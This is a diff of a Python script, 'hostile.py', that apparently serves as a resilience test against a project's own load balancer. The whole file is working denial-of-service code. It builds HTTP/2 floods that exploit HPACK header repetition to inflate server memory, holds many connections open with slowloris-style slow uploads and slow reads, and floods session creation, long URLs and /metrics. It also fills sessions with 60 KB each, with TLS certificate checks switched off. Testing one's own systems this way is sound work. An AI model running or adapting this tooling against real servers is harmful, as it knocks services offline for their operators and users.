@@ -1,11 +1,23 @@
-"""Attacks of one hostile client, each bounded. Standard library only: a bare container runs this file."""
+"""Attacks of one hostile client, at once. Standard library only: a bare container runs this file.
+
+python hostile.py https balancer 60     for 60 s; prints the counts of each attack as JSON, a line a second
+"""
 
 from __future__ import annotations
 
 import contextlib
+import json
 import socket
+import ssl
 import struct
+import sys
+import threading
+import time
+from collections import Counter
 from collections.abc import Callable, Iterator
+from dataclasses import dataclass
+from functools import partial
+from typing import BinaryIO
 
 SETTINGS, HEADERS = 4, 1
 END_HEADERS = 4
@@ -19,7 +31,7 @@ def http2_flood(
     Each stream names a body of 60,000 bytes that never comes, and one header of 4,000 bytes twenty times. The
     header is sent once and then repeated by its number (RFC 7541), so 12 KB make the receiver hold 8 MB.
     """
-    return _held(connect, connections, _greeting(streams))
+    return _held(connect, connections, greeting(streams))
 
 
 @contextlib.contextmanager
@@ -37,7 +49,8 @@ def _held(connect: Callable[[], socket.socket], connections: int, greeting: byte
             connection.close()
 
 
-def _greeting(streams: int) -> bytes:
+def greeting(streams: int) -> bytes:
+    """Return the first bytes of a connection of http2_flood."""
     pieces = [b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n", _frame(SETTINGS, 0, 0, b"")]
     for number in range(streams):
         # POST, https and / are entries of the static table; 1 is the name :authority.
@@ -62,3 +75,133 @@ def _text(value: bytes) -> bytes:
         encoded.append(rest % 128 + 128)
         rest //= 128
     return bytes([*encoded, rest]) + value
+
+
+LARGE = 60_000  # bytes
+
+
+@dataclass(frozen=True, slots=True)
+class Target:
+    """The balancer, by HTTPS or in the clear. Its certificate is not checked."""
+
+    scheme: str
+    host: str
+
+    def connect(self, protocol: str = "http/1.1", receive_buffer: int = 0) -> socket.socket:
+        """Return a connection on which nothing has been sent. receive_buffer: bytes, 0 for the usual size."""
+        connection = socket.socket()
+        connection.settimeout(10)
+        if receive_buffer:
+            connection.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, receive_buffer)
+        connection.connect((self.host, 8443 if self.scheme == "https" else 8080))
+        if self.scheme == "http":
+            return connection
+        context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
+        context.check_hostname = False
+        context.verify_mode = ssl.CERT_NONE
+        context.set_alpn_protocols([protocol])
+        return context.wrap_socket(connection)
+
+    def request(self, line: str, *headers: str) -> bytes:
+        return "\r\n".join([f"{line} HTTP/1.1", f"Host: {self.host}", *headers, "", ""]).encode()
+
+
+def flood(target: Target, request: bytes, counts: Counter[str]) -> None:
+    """Send a request again and again, twenty at a time, and count the answers by status."""
+    while True:
+        with contextlib.suppress(OSError), target.connect() as connection:
+            answers = connection.makefile("rb")
+            while True:
+                connection.sendall(request * 20)
+                for _ in range(20):
+                    status, _ = read_answer(answers)
+                    counts[status] += 1
+        time.sleep(0.1)
+
+
+def read_answer(answers: BinaryIO) -> tuple[str, dict[str, str]]:
+    """Read one answer to its end; return its status and its headers, by names in small letters."""
+    words = answers.readline().split()
+    if len(words) < 2:
+        raise ConnectionResetError
+    headers = {}
+    while line := answers.readline().strip():
+        name, _, value = line.decode("latin-1").partition(":")
+        headers[name.lower()] = value.strip()
+    answers.read(int(headers.get("content-length", 0)))
+    return words[1].decode(), headers
+
+
+def hold(open_one: Callable[[], socket.socket], step: bytes, number: int, counts: Counter[str]) -> None:
+    """Hold so many connections: each half second send a step on each, read little, open closed ones again."""
+    held: list[socket.socket] = []
+    while True:
+        with contextlib.suppress(OSError):
+            while len(held) < number:
+                held.append(open_one())
+                counts["opened"] += 1
+        for connection in list(held):
+            try:
+                connection.settimeout(0.001)
+                connection.sendall(step)
+                piece = connection.recv(600)
+                if not piece:
+                    raise ConnectionResetError
+                if piece.startswith(b"HTTP/1.1 "):
+                    counts[piece[9:12].decode()] += 1
+            except TimeoutError:
+                pass  # nothing to read yet
+            except OSError:
+                counts["closed"] += 1
+                held.remove(connection)
+                connection.close()
+        time.sleep(0.5)
+
+
+def large_session(target: Target) -> str:
+    """Return the cookie of a new session that holds 60 KB."""
+    large = json.dumps("x" * LARGE).encode()
+    headers = ("Content-Type: application/json", f"Content-Length: {len(large)}")
+    for _ in range(80):
+        with target.connect() as connection:
+            connection.sendall(target.request("PUT /api/session/data/large", *headers) + large)
+            _, answer = read_answer(connection.makefile("rb"))
+        if "set-cookie" in answer:
+            return answer["set-cookie"].partition(";")[0]
+        time.sleep(1)  # an attack a moment ago used up what one source may have
+    raise RuntimeError("no session within 80 s")
+
+
+def attacks_on(target: Target) -> dict[str, Callable[[Counter[str]], None]]:
+    """Return the attacks by name. Each counts what it meets, and never ends."""
+    post = "POST /api/session/counters/n"
+    reading = target.request("GET /api/session", f"Cookie: {large_session(target)}") * 20
+    writing = target.request(post, f"Content-Length: {LARGE}")
+
+    def opened(greeting: bytes, protocol: str = "http/1.1", receive_buffer: int = 0) -> socket.socket:
+        connection = target.connect(protocol, receive_buffer)
+        connection.sendall(greeting)
+        return connection
+
+    return {
+        "new sessions": partial(flood, target, target.request(post, "Content-Length: 0")),
+        "long addresses": partial(flood, target, target.request("GET /api/stateless?" + "x" * 3900)),
+        "metrics": partial(flood, target, target.request("GET /metrics")),
+        "streams": partial(hold, partial(opened, greeting(100), "h2"), b"", 10),
+        "slow uploads": partial(hold, partial(opened, writing), b"x", 40),
+        "slow reading": partial(hold, partial(opened, reading, receive_buffer=2048), b"", 100),
+    }
+
+
+def main(scheme: str, host: str, seconds: str) -> None:
+    attacks = attacks_on(Target(scheme, host))
+    counts: dict[str, Counter[str]] = {name: Counter() for name in attacks}
+    for name, attack in attacks.items():
+        threading.Thread(target=attack, args=(counts[name],), daemon=True).start()
+    for _ in range(int(seconds)):
+        time.sleep(1)
+        print(json.dumps({name: dict(met) for name, met in counts.items()}))
+
+
+if __name__ == "__main__":
+    main(*sys.argv[1:])
